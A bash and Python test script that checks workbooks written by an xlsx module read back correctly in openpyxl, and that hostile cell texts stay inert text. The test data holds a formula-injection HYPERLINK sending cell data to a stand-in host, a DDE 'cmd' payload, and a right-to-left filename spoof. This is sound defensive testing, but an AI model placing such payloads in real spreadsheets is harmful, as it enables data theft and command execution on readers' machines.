#!/bin/bash
# The workbooks that regie writes, read by somebody else's parser: openpyxl. What `write_workbook` writes is the sample of
# tests/render/workbook_sample.cpp, hostile in every text. Also: the program does without the module until it is needed.
set -eu
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

fail() { echo "xlsx: $*" >&2; exit 1; }

# What stands in the module costs nobody a start.
if readelf -d "$REGIE" | grep -E 'NEEDED.*(xlsxwriter|minizip|crypto|libz)'; then fail "the program is linked with what the module is for"; fi
readelf -d "$BUILD"/lib*/regie/xlsx.so "$BUILD"/lib/*/regie/xlsx.so 2>/dev/null | grep -q 'NEEDED.*xlsxwriter' ||
  fail "the module is not linked with libxlsxwriter: nothing was checked here"

"$BUILD/bin/write_workbook" "$work/sample.xlsx" 2> "$work/said" || fail "$(cat "$work/said")"
[ ! -s "$work/said" ] || fail "something was said: $(cat "$work/said")"
TZ=Asia/Tokyo "$BUILD/bin/write_workbook" "$work/again.xlsx"
cmp "$work/sample.xlsx" "$work/again.xlsx" || fail "the same report in another file"

# The library takes temporary files for written that were not, for want of room. Here no file may grow beyond 512 KiB,
# which the workbook does not need, but its parts do.
"$BUILD/bin/write_workbook" "$work/long.xlsx" 3000
[ "$(stat -c %s "$work/long.xlsx")" -lt 300000 ] || fail "the long workbook is too long for what comes next"

# refused KIB LINES WORDS: what is said when no file may grow beyond that
refused() {
  if (trap '' XFSZ; ulimit -f "$1"; exec "$BUILD/bin/write_workbook" "$work/short.xlsx" 3000) 2> "$work/said"; then
    fail "a workbook of which no part may have more than $1 KiB was taken for whole"
  fi
  grep -q "$3" "$work/said" || fail "with $1 KiB: $(cat "$work/said")"
  [ "$(wc -l < "$work/said")" = "$2" ] || fail "the library speaks for itself: $(cat "$work/said")"
}
refused 512 2 'temporary files'
refused 1 1 'File too large'

python=''
for candidate in python3 /usr/bin/python3; do
  if "$candidate" -c 'import openpyxl' 2> /dev/null; then
    python=$candidate
    break
  fi
done
if [[ -z $python ]]; then
  echo "SKIPPED: python3-openpyxl is not installed: nobody else has read our workbooks" >&2
  exit 77
fi

cat > "$work/check.py" << 'PYTHON'
import sys
import warnings
import zipfile
from datetime import datetime, timedelta
from xml.dom import minidom

import openpyxl

failures = 0


def expect(got, wanted, what):
    global failures
    if got != wanted:
        failures += 1
        print(f"FAILED: {what} is {got!r}, not {wanted!r}", file=sys.stderr)


warnings.simplefilter("ignore")  # it knows no bars behind cells
file = sys.argv[1]
book = openpyxl.load_workbook(file)

# The file: every part is XML, nothing in it is run or fetched.
with zipfile.ZipFile(file) as parts:
    for part in parts.infolist():
        expect(part.date_time, (1980, 1, 1, 0, 0, 0), f"the time of {part.filename}")
        tree = minidom.parseString(parts.read(part))
        expect(tree.getElementsByTagName("f"), [], f"the formulas in {part.filename}")
        for link in tree.getElementsByTagName("Relationship"):
            expect(link.getAttribute("TargetMode"), "", f"what {part.filename} fetches")
expect(book.properties.title, '=A sample & "its" <title>', "the title")
expect(book.properties.creator, "Val d’Orle Habitat", "the author")
expect(book.properties.created, datetime(2026, 4, 1, 4), "when it was made")

expect(book.sheetnames, ["Summary", "Late- who’s at fault- -all- -Ma", "Our word", "LATE- WHO’S AT FAULT- -ALL- (2)",
                         "Chart data"], "the sheets")
summary, late, kept, margin, data = book


def cells(sheet, columns, rows):
    return [[sheet[f"{column}{row}"].value for column in columns] for row in rows]


# The summary: everything is a text, a number or a date, and leads to the sheets.
expect([summary[f"A{row}"].value for row in range(1, 6)],
       ['=A sample & "its" <title>', "Val d’Orle Habitat", "1 to 31 March 2026", "trade plumbing, agency NORD", "As of"],
       "the beginning of the summary")
expect(summary["B5"].value, datetime(2026, 4, 1, 6), "as of when")
expect(cells(summary, "AB", (7, 8, 9)), [[12, "late"], [0.9, "of what we promised was kept"],
                                         [datetime(2026, 3, 1, 9), "=waits longest"]], "the headlines")
expect(cells(summary, "AB", range(11, 15)), [["Rows", "Sheet"], [10, "Late: who's at fault? [all] *March*"], [3, "Our word"],
                                             [2, "LATE- WHO’S AT FAULT- -ALL- -march-"]], "the list of sheets")
expect([summary[f"B{row}"].hyperlink.location for row in (12, 13, 14)],
       [f"'{name}'!A1" for name in book.sheetnames[1:4]], "where the list leads")
expect(cells(summary, "B", (16, 17)), [["Nobody waits for a word."], ["Requests of tenants who moved out are not counted."]],
       "the remarks of the summary")

# A table.
expect([cell.value for cell in late[1]],
       ["Number", "Text", "Opened", "Due", "Late by (h:min)", "Cost", "Fragile", "State", "Hash"], "the titles")
expect(all(cell.font.b for cell in late[1]), True, "that titles are bold")
expect((late.freeze_panes, late.auto_filter.ref), ("A2", "A1:I11"), "what stays in sight and what is filtered")
formats = ["0", "@", "dd/mm/yyyy hh:mm", 'dd/mm/yyyy hh:mm" !"', "[h]:mm", "#,##0.00", "General", "@", "@"]
for row in range(2, 11):
    expect([cell.number_format for cell in late[row]], formats, f"the formats of row {row}")
    expect([cell.data_type for cell in late[row]], list("nsdddnbss"), f"the types of row {row}")
expect([cell.value for cell in late[2]],
       [7, '=HYPERLINK("http://evil.example/?"&A1,"click")', datetime(2026, 3, 28, 23, 30), datetime(2026, 3, 29, 3, 30),
        timedelta(minutes=90), 123.45, True, "Assigned", "9007199254740993"], "the first row")
expect([late[f"E{row}"].value for row in (3, 4, 5)], [timedelta(hours=25), timedelta(hours=300), timedelta(0)], "lengths")
expect([late[f"F{row}"].value for row in (3, 4, 5)], [-0.5, 1234567.89, 0], "money")
expect([late[f"B{row}"].value for row in range(3, 9)],
       ["+33 6 12 34 56 78", "-1+1", "@SUM(A1:A9)", "two\nlines\nand a bell \\x07, a nought \\x1b[31m red tab",
        "<b>&amp;\"'</b> ]]> \\u202egpj.exe", "no character ��, no byte \\xff, escaped _x0041_ and _X0041_"],
       "hostile texts")
expect(late["B9"].value, "x" * 32766 + "…", "a long text")
expect([cell.value for cell in late[11]], ["1000000000000000"] + [None] * 8, "a row that is nearly empty")
expect([cell.value for cell in late[12]], [None] * 9, "the row that keeps the total out of the filter")
expect([cell.value for cell in late[13]],
       ["10", None, None, None, timedelta(hours=400), 1234690.87, None, None, None], "the total")
expect(all(cell.font.b for cell in late[13]), True, "that the total is bold")
expect([str(one) for one in late.merged_cells.ranges], ["A15:C15", "A16:C16"], "where remarks stand")
expect((late["A15"].value, late["A15"].data_type), ("=1+1 is a remark that must stay a text.", "s"), "the first remark")
expect((late["A16"].alignment.wrap_text, late.row_dimensions[16].height), (True, 30), "that the second has two lines")
widths = {column: late.column_dimensions[column].width for column in "ABCD"}
expect(widths["B"] > 60 and widths["A"] < 20 and widths["D"] > 18, True, f"that the columns fit ({widths})")

expect([cell.value for cell in kept["C"]], ["Kept", 0.9, 0.75, None], "shares")
expect(kept["C2"].number_format, "0.0%", "the format of shares")
expect(kept.auto_filter.ref, "A1:C4", "what is filtered on the second sheet")
bars = [(str(where.sqref), rule.type) for where in kept.conditional_formatting for rule in where.rules]
expect(bars, [("C2:C4", "dataBar")], "the bars")
expect(cells(margin, "AB", (1, 2, 3)), [["Provider", "Margin (h)"], ["GAR", -1.5], ["PLB", 2.5]], "times below nothing")

# Charts: drawn from cells that say the same.
def series(chart):
    return [(one.tx.strRef.f, one.cat.strRef.f, one.val.numRef.f) for one in chart.series]


def title(chart):
    return "".join(run.t for line in chart.title.tx.rich.p for run in line.r or [])


charts = late._charts + kept._charts
expect([(type(chart).__name__, title(chart)) for chart in charts],
       [("BarChart", 'Late & not late, "by trade"'), ("LineChart", "Kept"), ("BarChart", "Time to the first visit")],
       "the charts")
expect(charts[0].grouping, "stacked", "the first chart")
expect([series(chart) for chart in charts],
       [[("'Chart data'!$B$2", "'Chart data'!$A$3:$A$5", "'Chart data'!$B$3:$B$5"),
         ("'Chart data'!$C$2", "'Chart data'!$A$3:$A$5", "'Chart data'!$C$3:$C$5")],
        [("'Chart data'!$B$8", "'Chart data'!$A$9:$A$11", "'Chart data'!$B$9:$B$11"),
         ("'Chart data'!$C$8", "'Chart data'!$A$9:$A$11", "'Chart data'!$C$9:$C$11")],
        [("'Chart data'!$B$14", "'Chart data'!$A$15:$A$17", "'Chart data'!$B$15:$B$17")]], "what the charts are drawn from")
expect(cells(data, "ABC", range(1, 18)),
       [['Late & not late, "by trade"', None, None], [None, "late", "in time"], ["plumbing", 3, 10],
        ["=cmd|' /C calc'!A0", 1, 5], ["locksmith", 0, 4], [None] * 3,
        ["Kept", None, None], [None, "NORD", "SUD"], ["January", 0.9, 0.8], ["February", 0.75, 0.85], ["March", None, 1],
        [None] * 3, ["Time to the first visit", None, None], [None, "Time to the first visit", None],
        ["January", 26.5, None], ["February", 30, None], ["March", 12.25, None]], "the data of the charts")
anchors = [(chart.anchor._from.row, chart.anchor._from.col) for chart in charts]
expect(anchors, [(17, 0), (1, 4), (18, 4)], "where the charts stand: below a wide table, beside a narrow one")

long = openpyxl.load_workbook(sys.argv[2])
expect(long.properties.created, datetime(1970, 1, 1, 0, 0, 1), "when the long one was made")
expect(long.sheetnames, ["Summary", "Rows"], "its sheets")
expect((long["Rows"]["A3001"].value, long["Rows"].max_row), (2999, 3001), "its last row")

if failures == 0:
    print(f"workbooks read back by openpyxl {openpyxl.__version__}")
sys.exit(1 if failures else 0)
PYTHON
"$python" "$work/check.py" "$work/sample.xlsx" "$work/long.xlsx"
